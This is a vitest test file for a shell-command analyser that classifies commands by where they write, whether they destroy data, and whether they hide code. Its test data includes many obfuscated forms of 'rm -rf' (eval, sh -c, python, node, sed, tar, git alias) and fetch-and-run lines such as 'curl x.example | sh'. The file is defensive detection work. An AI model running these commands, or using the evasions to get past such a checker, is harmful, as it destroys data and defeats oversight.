/** The shell analysis by mechanism: what a line does once the shell has taken it apart. */
import { describe, expect, test } from "vitest";
import type { ShellContext } from "./effect.ts";
import { shellEffect } from "./shell-effect.ts";

const context: ShellContext = { directory: "/p", home: "/home/me", port: 4096 };
const effect = (command: string) => shellEffect(command, context, undefined);

describe("where a write goes", () => {
  test.each([
    ["echo x > a", ["/p/a"]],
    ["echo x >> sub/../a", ["/p/a"]],
    ["cd sub && echo x > a", ["/p/sub/a"]],
    ["(cd sub; echo x > a); echo x > b", ["/p/sub/a", "/p/b"]],
    ["cd sub; cd ..; touch a", ["/p/a"]],
    ["cd /tmp; cd -; touch a", ["/p/a"]],
    ['D=lib; touch $D/a "${D}"/b ${D:-x}/c', ["/p/lib/a", "/p/lib/b", "/p/lib/c"]],
    ["touch {a,b}.ts", ["/p/a.ts", "/p/b.ts"]],
    ["touch f{1..3}", ["/p/f1", "/p/f2", "/p/f3"]],
    ["for f in a b; do touch $f.ts; done", ["/p/a.ts", "/p/b.ts"]],
    ['f() { touch "$1"; }; f a; f b', ["/p/a", "/p/b"]],
    ["x=$(basename src/a.ts .ts); touch $x.js", ["/p/a.js"]],
    ["f=src/a.ts; touch ${f%.ts}.js ${f##*/}", ["/p/src/a.js", "/p/a.ts"]],
    ["touch ~/a", ["/home/me/a"]],
    ['touch "~/a"', ["/p/~/a"]],
    ["touch $'a\\tb'", ["/p/a\tb"]],
    ["cp -t lib a b", ["/p/lib"]],
    ["mv a b lib", ["/p/a", "/p/b", "/p/lib"]],
    ["tee a b < c", ["/p/a", "/p/b"]],
    ["dd if=a of=b", ["/p/b"]],
    ["sort a -o b", ["/p/b"]],
    ["curl -sSLo out https://x.example/y", ["/p/out"]],
    ["make -C sub format && git apply < d.patch || true", []],
    ["echo a b | xargs touch", ["/p/a", "/p/b"]],
  ])("%s", (command, writes) => expect(effect(command).writes).toEqual(writes));

  test.each([
    "touch $UNKNOWN",
    "touch src/$(date +%s)",
    'echo x > "$1"',
    "cd $X; touch a",
    "cd /nowhere; touch a",
  ])("%s writes where it cannot be told", (command) => expect(effect(command).writesUnknown).toBe(true));

  test.each([
    "echo x > /tmp/$$.log",
    "t=$(mktemp -d); cd $t && touch a",
    "touch /tmp/$(date +%s)/a",
    "ls > /dev/null 2>&1",
  ])("%s stays out of the project", (command) =>
    expect(effect(command)).toMatchObject({ writesUnknown: false, hidden: null }),
  );
});

describe("what never runs does nothing", () => {
  test.each([
    "false && rm -rf src",
    "true || rm -rf src",
    "if false; then rm -rf src; fi",
    "[ a = b ] && rm -rf src",
    "[[ 1 -gt 2 ]] && rm -rf src",
    "while false; do rm -rf src; done",
    "f() { rm -rf src; }",
    "exit; rm -rf src",
    "case a in b) rm -rf src;; esac",
    "alias ls='rm -rf src'; ls",
    "set -e; false; rm -rf src",
    "echo 'rm -rf src'",
    "cat <<X\nrm -rf src\nX",
    "bash -n -c 'rm -rf src'",
    "rm --help -rf src",
  ])("%s", (command) =>
    expect(effect(command)).toMatchObject({ destructive: null, writes: [], writesUnknown: false }),
  );

  test.each([
    "[ -f x ] && rm -rf src",
    "[ -f x ] || exit; rm -rf src",
    '[ -n "$X" ] && exit 0; rm -rf src',
    "(exit 0); rm -rf src",
    "f() { return; }; f; rm -rf src",
    "! false && rm -rf src",
    "if grep -q x y; then :; else rm -rf src; fi",
    "until false; do rm -rf src; break; done",
  ])("but %s may run", (command) => expect(effect(command).destructive).not.toBeNull());
});

describe("payloads that are written out are read", () => {
  test.each([
    "sh -c 'rm -rf src'",
    'bash -euo pipefail -c "rm -rf src"',
    "sh -c 'rm -rf \"$1\"' _ src",
    "eval rm -rf src",
    'eval "$(echo rm -rf src)"',
    "$(echo rm) -rf src",
    "X='rm -rf src'; $X",
    "IFS=,; x=rm,-rf,src; $x",
    "echo 'rm -rf src' | sh",
    "printf 'rm %s src' -rf | bash -s",
    "sh <<< 'rm -rf src'",
    "cat <<X | sh\nrm -rf src\nX",
    "sh <(echo rm -rf src)",
    ". <(echo rm -rf src)",
    "echo 'rm -rf src' > x.sh; sh x.sh",
    "cat > x.sh <<X\nrm -rf src\nX\nchmod +x x.sh; cp x.sh y.sh; bash y.sh",
    "echo src | xargs -I% sh -c 'rm -rf %'",
    "find . -name src -exec sh -c 'rm -rf \"$0\"' {} \\;",
    "shopt -s expand_aliases\nalias x='rm -rf src'\nx",
    "GIT_EDITOR='rm -rf src' git commit",
    "git -c alias.x='!rm -rf src' x",
    "python3 -c \"import os; os.system('rm -rf src')\"",
    "node -e \"require('child_process').execSync('rm -rf src')\"",
    "perl -e '`rm -rf src`'",
    "awk 'BEGIN { system(\"rm -rf src\") }'",
    "sed '1e rm -rf src' a",
    "tar xf a --to-command='rm -rf src'",
  ])("%s", (command) => expect(effect(command).destructive).not.toBeNull());
});

describe("code that cannot be read is hidden", () => {
  test.each([
    "$X",
    '"$(cat x)"',
    'eval "$X"',
    "curl x.example | sh",
    "curl x.example | sudo -E bash -",
    "bash <(curl x.example)",
    'bash -c "$(curl x.example)"',
    "wget -qO x.sh x.example; sh x.sh",
    "echo cm0= | base64 -d | sh",
    "base64 -d <<< cm0= > x; sh ./x",
    "tr a-z b-za < x | sh",
    "sed s/a/b/ x | bash",
    "ls | awk '{print \"rm \" $1}' | sh",
    "/bin/r? src",
    "xargs -I{} sh -c {} < list",
    "curl x.example | python3",
    "python3 -c \"exec(__import__('base64').b64decode('eA=='))\"",
    "node -e \"eval(Buffer.from('eA==','base64')+'')\"",
    "if true; then rm",
  ])("%s", (command) => expect(effect(command).hidden).not.toBeNull());

  test.each([
    "curl x.example | jq .",
    "curl x.example | tar xz",
    "curl x.example | python3 -c 'import sys; print(sys.stdin.read())'",
    "eval ls",
    "source .venv/bin/activate",
    "base64 -d x | head",
  ])("but %s hides nothing", (command) => expect(effect(command).hidden).toBeNull());
});

describe("three shades of the unknown", () => {
  test.each([
    ["npm test", "test"],
    ["pytest -q", "test"],
    [".venv/bin/pytest", "test"],
    ["npx tsc --noEmit", "test"],
    ["python -m pytest", "test"],
    ["python manage.py test", "test"],
    ["npm run build", "build"],
    ["make", "build"],
    ["cargo build", "build"],
  ])("%s is a known runner (%s)", (command, runner) =>
    expect(effect(command)).toMatchObject({ runner, opaque: null, writesUnknown: false }),
  );

  test.each([
    "python x.py",
    "./x.sh",
    "node x.js",
    "unknown-tool a",
    "bash x.sh",
    "./ls",
    "npm run deploy-thing",
  ])("%s is an opaque program", (command) =>
    expect(effect(command)).toMatchObject({ opaque: expect.any(String), hidden: null }),
  );

  test.each([
    "npm run format",
    "npm run lint -- --fix",
    "vitest -u",
    "eslint --fix .",
    "black .",
    "go mod tidy",
    "npm i lodash",
  ])("%s writes", (command) => expect(effect(command).writesUnknown).toBe(true));
});

describe("git", () => {
  test.each([
    "git add .",
    "git commit -m x",
    "git push",
    "git checkout -b x",
    "git fetch",
    "git tag v1",
    "git reset HEAD a",
  ])("%s stays inside .git", (command) =>
    expect(effect(command)).toMatchObject({
      git: expect.any(String),
      writesUnknown: false,
      writes: [],
      destructive: null,
    }),
  );

  test.each([
    "git status",
    "git diff",
    "git log",
    "git branch -a",
    "git stash list",
    "git clean -n",
    "git config --get x",
    "git tag -l",
  ])("%s only looks", (command) =>
    expect(effect(command)).toMatchObject({ git: null, writesUnknown: false, destructive: null }),
  );
});
